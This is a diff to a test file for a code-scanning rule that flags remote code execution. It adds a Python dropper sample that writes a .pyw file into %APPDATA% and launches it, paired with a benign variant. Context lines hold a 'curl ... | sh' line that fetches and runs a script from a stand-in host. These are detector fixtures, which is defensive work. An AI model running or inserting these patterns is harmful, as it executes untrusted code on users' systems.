@@ -42,6 +42,16 @@ CASES: list[tuple[Rule, str, str, str]] = [
     ),
     (
         executes_code_at_remote_url_rule,
+        "win_drop.py",
+        "from os import environ, startfile\n"
+        "open(environ['appdata'] + '\\\\w.pyw', 'w').write(src)\n"
+        "startfile(environ['appdata'] + '\\\\w.pyw')\n",
+        "from os import environ, startfile\n"
+        "open(environ['appdata'] + '\\\\report.html', 'w').write(src)\n"
+        "startfile(environ['appdata'] + '\\\\report.html')\n",
+    ),
+    (
+        executes_code_at_remote_url_rule,
         "install.sh",
         "curl -fsSL https://x.example.net/i.sh | sh\n",
         "curl -fsSL https://x.example.net/i.sh -o notes.txt\n",
